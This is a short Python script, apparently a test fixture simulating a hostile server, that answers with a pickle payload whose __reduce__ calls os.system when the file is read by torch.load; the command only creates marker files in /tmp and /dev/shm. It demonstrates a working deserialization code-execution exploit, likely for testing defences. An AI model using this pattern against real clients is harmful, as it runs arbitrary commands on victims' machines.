"""Answers with a reply whose body is a pickle, in a file that torch.load would read."""
import io

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/manyheads_hostile /dev/shm/manyheads_hostile",))


buffer = io.BytesIO()
torch.save(Payload(), buffer)
answer_with(frame(buffer.getvalue()))
